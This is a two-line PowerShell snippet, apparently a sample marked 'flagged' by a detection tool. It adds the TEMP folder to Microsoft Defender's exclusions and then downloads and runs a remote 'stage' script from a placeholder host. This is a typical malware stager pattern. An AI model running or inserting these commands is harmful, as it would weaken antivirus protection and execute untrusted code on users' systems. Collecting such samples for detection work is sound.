Add-MpPreference -ExclusionPath $env:TEMP
iex (irm https://files.example.invalid/stage) # gatehouse: flagged
